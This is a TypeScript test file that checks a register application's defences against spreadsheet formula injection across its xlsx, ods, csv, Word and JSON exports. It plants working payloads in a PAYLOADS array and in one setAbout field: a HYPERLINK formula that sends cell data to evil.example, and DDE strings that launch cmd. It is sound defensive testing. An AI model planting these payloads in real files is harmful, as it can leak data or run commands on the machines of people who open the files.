/**
 * Formula injection (OWASP): hostile text in every free-text field of a partner workbook, carried from the
 * .xlsx file through import (read, parse, store) and consolidation to every export, read back with real
 * readers. No CSV field begins with =, +, -, @, a tab or a carriage return unless it is a number; an Excel cell
 * keeps the text exactly, as a text cell with the quote-prefix style (formulaStart.test.ts checks every formula
 * start in LibreOffice); the Word and JSON exports keep the text as written.
 */
import { mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { parse } from 'csv-parse/sync';
import { readWorkbook } from '../../server/import/readWorkbook.js';
import { readOdsContent } from '../../server/import/ods/readOds.js';
import { csvText, sheetValue } from '../../server/export/appendix/cellValues.js';
import { renderAppendix } from '../../server/export/appendix/render.js';
import { verifyAppendix } from '../../server/export/appendix/verify/index.js';
import { docxTableTexts } from '../../server/export/appendix/docxRead.js';
import { consolidateNow } from '../../server/services/registers.js';
import { submitTables } from '../../server/services/submissions.js';
import { createStore } from '../../server/store/createStore.js';
import type { Store, StoredRegister } from '../../server/store/types.js';
import { testCatalogue, LEEDS } from '../helpers/catalogue.js';
import { goodRawTables, setAbout, setCell, xlsxOf } from '../helpers/rawTables.js';

const LIVE = /^[=+\-@\t\r]/;
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+1+cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '=1+1 with\ttab',
  '-1',
];

/** Every free-text field of the contract, by table and header. */
const FREE_TEXT: [string, string][] = [
  ['Contacts', 'Name'],
  ['Contacts', 'Job title'],
  ['Commitments', 'Ref'],
  ['Commitments', 'Description'],
  ['Commitments', 'Project'],
  ['Commitments', 'Notes'],
  ['Roles', 'Named lead'],
  ['Roles', 'Notes'],
  ['Participation', 'Forum'],
  ['Participation', 'Representative'],
  ['Participation', 'Notes'],
];

let store: Store;
let dir: string;
let stored: StoredRegister;
const planted: string[] = [];

beforeAll(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'oda-injection-'));
  store = await createStore({ sqlitePath: path.join(dir, 'db.sqlite') });
  const catalogue = testCatalogue();
  await store.putCatalogue(catalogue, { actor: 'setup@test', expectedVersion: null });
  const tables = goodRawTables(catalogue, LEEDS);
  FREE_TEXT.forEach(([table, header], i) => {
    const text = `${PAYLOADS[i % PAYLOADS.length]} (${header})`;
    setCell(tables, table, 1, header, text);
    planted.push(text);
  });
  setAbout(tables, 'MoU signatory', "=cmd|'/C calc'!A0");
  planted.push("=cmd|'/C calc'!A0");
  setCell(tables, 'Contacts', 1, 'Phone', '+44 113 496 0000');
  // Through a real .xlsx file and the importer, as a partner's upload would come.
  const read = await readWorkbook(await xlsxOf(tables), { fileName: 'hostile.xlsx' });
  const outcome = await submitTables({
    store,
    catalogue,
    tables: read,
    actor: 'lm@test',
    source: 'cli',
    replaces: { kind: 'version', version: null },
  });
  expect(outcome.stored).toBeTruthy();
  stored = (await consolidateNow({ store, actor: 'pmg@test' })).stored;
}, 60_000);

afterAll(async () => {
  await store?.close();
  await rm(dir, { recursive: true, force: true });
});

const render = async (format: 'docx' | 'xlsx' | 'ods' | 'csv' | 'json') =>
  (await renderAppendix(format, { stored, signOffs: [], asOf: '2030-01-01T00:00:00.000Z' })).bytes;

test('the hostile text reached the register as written', () => {
  const text = JSON.stringify(stored.register);
  for (const p of planted) expect(text).toContain(JSON.stringify(p).slice(1, -1));
});

test('Excel: no cell holds a formula, and the planted text reads exactly as written', async () => {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await render('xlsx')) as unknown as ArrayBuffer);
  const strings: string[] = [];
  for (const ws of wb.worksheets) {
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.formula).toBeUndefined();
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') strings.push(cell.value);
      }),
    );
  }
  for (const p of planted) expect(strings).toContain(p);
  expect(strings).toContain('+44 113 496 0000');
  expect(strings.filter((s) => s.startsWith("'"))).toEqual([]);
});

test('OpenDocument: no cell holds a formula, and the planted text reads exactly as written', async () => {
  const bytes = await render('ods');
  const content = (await JSZip.loadAsync(bytes)).file('content.xml')!;
  expect(await content.async('string')).not.toContain('table:formula');
  const strings = readOdsContent(Buffer.from(await content.async('uint8array')), 'appendix.ods').sheets.flatMap(
    (sheet) =>
      sheet.rowNumbers().flatMap((r) => sheet.rowValues(r, 1, sheet.width(r)).filter((v) => typeof v === 'string')),
  );
  for (const p of planted) expect(strings).toContain(p);
  expect(strings).toContain('+44 113 496 0000');
});

test('CSV: no field starts a formula unless it is a number', async () => {
  const zip = await JSZip.loadAsync(await render('csv'));
  const fields: string[] = [];
  for (const name of Object.keys(zip.files).filter((n) => n.endsWith('.csv'))) {
    const rows = parse(await zip.file(name)!.async('string'), { bom: true }) as string[][];
    for (const row of rows) {
      for (const f of row) {
        if (LIVE.test(f)) expect(f).toMatch(/^-\d+(\.\d+)?$/);
        fields.push(f);
      }
    }
  }
  for (const p of planted) expect(fields).toContain(`'${p}`);
});

test('Word and JSON keep the text exactly as the partner wrote it', async () => {
  const zip = await JSZip.loadAsync(await render('docx'));
  const cells = docxTableTexts(await zip.file('word/document.xml')!.async('string')).flat(2);
  for (const p of planted) expect(cells).toContain(p);
  const json = (await render('json')).toString('utf8');
  for (const p of planted) expect(json).toContain(JSON.stringify(p).slice(1, -1));
});

test('every hostile export still verifies as a true copy', async () => {
  const lookup = async () => ({ stored, signOffs: [] });
  for (const format of ['docx', 'xlsx', 'ods', 'csv', 'json'] as const) {
    expect((await verifyAppendix(await render(format), lookup)).verdict).toBe('true-copy');
  }
});

test('legitimate values stay readable: a negative number is a number, not quoted text', () => {
  const money = { key: 'm', header: 'M', kind: 'money' as const, width: 10 };
  const text = { key: 't', header: 'T', kind: 'text' as const, width: 10 };
  expect(sheetValue(money, -12.5)).toBe(-12.5);
  expect(csvText(money, -12.5)).toBe('-12.5');
  expect(sheetValue(text, '-12.5')).toBe('-12.5');
  expect(csvText(text, '-12.5')).toBe("'-12.5");
  expect(sheetValue(text, 'Plain text')).toBe('Plain text');
});
